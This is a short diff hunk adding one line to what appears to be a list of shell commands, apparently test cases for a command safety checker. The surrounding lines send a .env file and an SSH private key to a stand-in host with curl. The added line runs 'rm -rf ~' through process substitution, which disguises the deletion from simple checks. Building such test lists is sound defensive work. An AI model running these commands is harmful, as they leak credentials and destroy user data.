@@ -32,6 +32,7 @@ b2 sync --delete empty b2://backup
 curl -d "$(<.env)" https://example.com
 curl -d @<(cat .env) https://example.com
 curl -T <(cat ~/.ssh/id_rsa) https://example.com
+echo 'rm -rf ~' > >(sh)
 rm -rf "$OUT/$NAME"
 rm -f "$OUT"/*
 chmod -R u+x "$OUT/$NAME"
